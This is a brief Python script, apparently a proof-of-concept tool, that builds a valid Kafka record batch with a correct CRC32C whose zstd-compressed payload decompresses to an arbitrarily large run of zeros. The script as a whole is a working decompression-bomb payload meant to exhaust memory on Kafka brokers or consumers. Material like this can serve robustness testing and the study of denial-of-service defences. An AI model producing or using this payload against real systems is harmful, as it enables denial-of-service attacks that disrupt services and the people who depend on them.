#!/usr/bin/env python3
# bomb.py SIZE: a whole record batch of Kafka's format on stdout whose zstd stream holds SIZE zeros.
import struct, subprocess, sys

packed = subprocess.run(["zstd", "-q", "-19", "-c"], input=bytes(int(sys.argv[1])), capture_output=True, check=True).stdout
table = []
for n in range(256):
    for _ in range(8):
        n = n >> 1 ^ (0x82F63B78 if n & 1 else 0)
    table.append(n)
body = struct.pack(">hiqqqhii", 4, 0, 1700000000000, 1700000000000, -1, -1, -1, 1) + packed
crc = 0xFFFFFFFF
for b in body:
    crc = crc >> 8 ^ table[(crc ^ b) & 255]
sys.stdout.buffer.write(struct.pack(">qiibI", 0, len(body) + 9, 0, 2, crc ^ 0xFFFFFFFF) + body)
